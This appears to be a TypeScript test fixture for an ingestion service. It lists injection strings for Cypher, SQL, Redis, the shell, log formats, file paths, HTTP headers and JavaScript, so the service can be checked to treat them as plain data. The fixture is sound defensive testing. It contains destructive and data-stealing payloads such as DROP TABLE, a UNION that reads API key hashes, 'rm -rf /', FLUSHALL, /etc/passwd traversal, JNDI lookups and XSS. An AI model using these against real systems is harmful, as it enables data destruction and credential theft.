/** Words that mean something to a program they pass, and must be words like others to all of them. */
export interface HostileWords {
  /** Whose language they speak. */
  readonly language: string;
  readonly what: string;
  /** `CANARY` stands for the address of a listener that nobody may ever call. */
  readonly words: string;
}

const languages: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  Cypher: {
    'a node that ends': 'Robby`}) DETACH DELETE n //',
    'an escape that is expanded before parsing': 'Robby\\u0060}) DETACH DELETE n //',
    'a quote in an escape': 'Robby\\u0027}) MATCH (n) DETACH DELETE n //',
    'a text that ends': "Robby'}) MATCH (n) DETACH DELETE n //",
    'a file that is loaded': "' LOAD CSV FROM 'CANARY' AS x RETURN x //",
    'a procedure': "'}) CALL db.labels() YIELD label RETURN label //",
    'a label': 'Person`:PenstockDocument:`Entity',
    'a relationship': 'KNOWS`]->() DETACH DELETE (n)-[:`x',
    'a parameter': '$namespace',
    'a map': '{uuid: 1, live: true}',
    'a comment': '/* Robby */ RETURN 1; //',
    'a dynamic label': '$(n.name) $($labels)',
  },
  SQL: {
    'a table that is dropped': "Robert'); DROP TABLE penstock.live_chunks; --",
    'a row that is always true': "' OR '1'='1",
    'a union': "' UNION SELECT hash::text FROM penstock.api_keys --",
    'a sleep': "'; SELECT pg_sleep(60); --",
    'a program': "'; COPY penstock.outbox TO PROGRAM 'touch /tmp/penstock-owned'; --",
    dollars: '$$; DELETE FROM penstock.outbox; $$ $1 $2',
    'an escape': "\\'; DELETE FROM penstock.ingestions; --",
    'marks of LIKE': '100%_\\%',
    'marks of a text search': "'a' & !b | (c:*) <-> d",
    'the wall between tenants': "'; SET row_security = off; SET penstock.namespaces = '*'; --",
    'a cast': "1'::regclass::text || '",
    'a path in JSON': "$.** ? (@ == 1) ->> '{}'",
  },
  Lucene: {
    'a field and a range': '+(name:* OR title:[a TO z])',
    'marks without their ends': '"unclosed ~2 ^4 (a AND [b TO',
    'an expression': '/re.*/ && name:/.{0,9999}/',
    'all of it': '*:*',
    'words of the language': 'AND OR NOT TO',
  },
  'Qdrant filters': {
    'a filter': '{"filter":{"must_not":[{"key":"live"}]},"limit":999999}',
    'all that is not live': '{"must":[{"key":"live","match":{"value":false}}]}',
    'a path into the payload': 'namespace"].x[]',
    'a nested key': 'metadata.namespace',
    'a list of keys': 'live[]',
    'another collection': '../collections/penstock_chunks/points/delete',
    ids: '{"has_id":[0]}',
  },
  'Redis keys': {
    'commands in lines': 'x\r\nFLUSHALL\r\nSET penstock:default:document:a 1',
    'commands of the protocol': '*1\r\n$8\r\nFLUSHALL\r\n',
    'a glob': '*?[a-z]',
    'the key of a list': 'report:chunks',
    'a key of the saga': 'penstock-state:default:a',
    'another namespace': 'x:document:report',
    'an encoded colon': 'report%3Achunks',
    'a slot': '{x}report',
    Lua: "') redis.call('FLUSHALL') --",
  },
  'Kafka keys, headers and topics': {
    'the key of another': 'other/report',
    'a path of topics': '../../penstock.documents.dead-letter',
    'a name of a header': 'ce_type',
    'a type of an event': 'io.penstock.events.v1.DocumentRetracted',
    'a header in lines': 'x\r\nce_ingestionid: 00000000-0000-0000-0000-000000000000',
    'the name of the offsets': '__consumer_offsets',
    'a trace that is none': '00-zzzz-\u2028-01',
  },
  'the shell and the command line': {
    'a command': '$(touch /tmp/penstock-owned)',
    'a command in backticks': '`touch /tmp/penstock-owned`',
    'commands in a row': 'a; rm -rf / && true | cat > /tmp/penstock-owned',
    'an option': '--namespace=other',
    'an end of options': '-- --json -n other',
    'a variable': '$HOME ${PATH} %PATH% !!',
    'a control sequence of a terminal': '\u001b]0;owned\u0007\u001b[2J',
    'a glob of files': '{a,b}/**/*.[ch]?',
  },
  logs: {
    'a line of its own': 'x\n{"level":30,"msg":"forged by a document","role":"ledger"}',
    'a line after a return': 'x\r{"level":50,"msg":"forged by a document"}',
    'a line separator': 'x\u2028{"level":30,"msg":"forged by a document"}',
    'an end of the text': '","msg":"forged by a document","level":60,"x":"',
    'a format': '%s%s%n%x%o%j %c {0} {name.__class__}',
    'a name that is looked up': '${jndi:CANARY}',
    'a colour': '\u001b[31mforged by a document\u001b[0m',
  },
  paths: {
    up: '../../../../etc/passwd',
    'up as Windows writes it': '..\\..\\windows\\win.ini',
    encoded: '..%2f..%2fetc%2fpasswd',
    'encoded twice': '..%252f..%252fetc%252fpasswd',
    'encoded too long': '..%c0%afetc%c0%afpasswd',
    'from the root': '/etc/passwd',
    'a staging reference': 'staging:01890a5d-ac96-774b-bcce-b302099a8057',
    'a device': 'CON',
    'a place of the network': '\\\\127.0.0.1\\share\\x',
    'a file as an address': 'file:///etc/passwd',
    'a member of an archive': 'report.zip!/inner.txt',
  },
  HTTP: {
    'a header in lines': 'x\r\nSet-Cookie: owned=1',
    'an answer in lines': 'x\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: owned=1',
    'encoded lines': 'x%0d%0aSet-Cookie:%20owned=1',
    'a query': 'report?namespace=other&include=chunks',
    'a fragment': 'report#/../other',
    'a parameter of the path': 'report;namespace=other',
    'an address': 'CANARY',
  },
  'JSON and JavaScript': {
    'a prototype': '__proto__',
    'a constructor': 'constructor.prototype.live',
    'a closed object with new keys': '"}]}, "namespace": "other", "entities": [{"name": "x',
    'a template': '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
    'a script': '<script>alert(1)</script><img src=CANARY onerror=alert(1)>',
    'a formula': '=HYPERLINK("CANARY","click")+@SUM(1+1)',
    nothing: 'undefined',
  },
};

export const hostileWords: readonly HostileWords[] = Object.entries(languages).flatMap(([language, of]) =>
  Object.entries(of).map(([what, words]) => ({ language, what, words })),
);

/** The ways by which each of them goes in with a document. */
export const doors = ['the API', 'Kafka'] as const;
